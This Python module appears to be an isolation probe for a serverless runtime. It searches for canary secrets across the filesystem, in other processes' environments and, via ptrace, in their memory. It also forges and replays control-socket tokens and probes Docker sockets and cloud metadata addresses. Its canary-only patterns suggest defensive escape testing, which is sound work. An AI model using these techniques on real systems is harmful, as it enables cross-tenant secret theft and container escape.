"""Looks for keys and secrets of others, and returns all that it has found."""

import ctypes
import os
import re
import socket
import stat

from pilotflame.runtime.calls.link.frames import FrameKind, encode_json

SECRET = re.compile(rb"canary-[0-9a-f]{32}|pf_[0-9a-f]{12}_[0-9a-f]{64}")
ADDRESSES = [("169.254.169.254", 80), ("169.254.170.2", 80), ("10.0.2.2", 80), ("1.1.1.1", 53)]
SOCKETS = ["/var/run/docker.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket"]
TOKEN = re.compile(rb"[0-9a-f]{16}\.[0-9a-f]{32}")


def seen(path, form=SECRET, most=64 << 20):
    found = set()
    try:
        with open(path, "rb") as file:
            while most > 0 and (data := file.read(1 << 20)):
                found.update(form.findall(data))
                most -= len(data)
    except OSError:
        pass
    return found


def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def files(event):
    found = set()
    for folder, names, others in os.walk("/"):
        names[:] = [name for name in names if os.path.join(folder, name) not in ("/proc", "/sys")]
        for path in (os.path.join(folder, name) for name in others):
            found |= seen(path) if os.path.isfile(path) else set()
    for path in event["paths"]:
        for root in ("", "/proc/1/root", "/proc/self/cwd/../..", "/dev/.."):
            found |= seen(root + path)
    for number in (os.makedev(254, 0), os.makedev(8, 0)):
        try:
            os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, number)
            found.add(b"a device of a disk")
        except OSError:
            pass
    return found


def environment(event):
    found = set(SECRET.findall(repr(dict(os.environ)).encode()))
    for pid in pids():
        for name in ("environ", "cmdline", "mountinfo", "cgroup"):
            found |= seen(f"/proc/{pid}/{name}")
        if seen(f"/proc/{pid}/cmdline", re.compile(rb"(?:zygote|worker|standby) (?:hello|work) ")):
            found.add(b"a process of another function")
    return found


def memory(event, form=SECRET):
    found, libc = set(), ctypes.CDLL(None)
    for pid in pids():
        traced = pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0
        if traced:
            os.waitpid(pid, 0x40000000)
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    begin, end = (int(text, 16) for text in line.split()[0].split("-"))
                    if line.split()[1][:2] == "rw":
                        try:
                            mem.seek(begin)
                            found.update(form.findall(mem.read(min(end - begin, 64 << 20))))
                        except (OSError, ValueError):
                            pass
        except OSError:
            pass
        if traced:
            libc.ptrace(17, pid, 0, 0)
    return found


def accepted(path, token, role):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(1)
        sock.connect(path)
        sock.sendall(encode_json(FrameKind.HELLO, 0, {"token": token, "role": role}))
        try:
            return sock.recv(1) != b""
        except TimeoutError:
            return True
        except OSError:
            return False


def sockets(event):
    tokens = {token.decode() for token in memory(event, TOKEN)}
    forged = {token[:17] + "0" * 32 for token in tokens} | {"0" * 16 + "." + "0" * 32}
    found = {
        f"HELLO as {role} of a used token".encode()
        for token in [*sorted(tokens)[:20], *sorted(forged)[:20]]
        for role in ("zygote", "worker")
        if accepted(event["link"], token, role)
    }
    targets = [(socket.AF_UNIX, path) for path in [*SOCKETS, *event["sockets"]]]
    targets += [(socket.AF_INET, address) for address in [*ADDRESSES, ("127.0.0.1", event["port"])]]
    for family, target in targets:
        with socket.socket(family) as sock:
            sock.settimeout(0.3)
            if sock.connect_ex(target) == 0 if family == socket.AF_INET else os.path.exists(target):
                found.add(repr(target).encode())
    return found


PLACES = {"paths": os.environ.get("PATHS", "").split(":")}
AT_IMPORT = files(PLACES) | environment(PLACES) | memory(PLACES) if "PATHS" in os.environ else set()


def build(context):
    return files(PLACES) | environment(PLACES) | memory(PLACES) if "PATHS" in os.environ else set()


def handler(event, context):
    found = AT_IMPORT | context.state if event["do"] == "build" else globals()[event["do"]](event)
    return sorted(text.decode() for text in found)
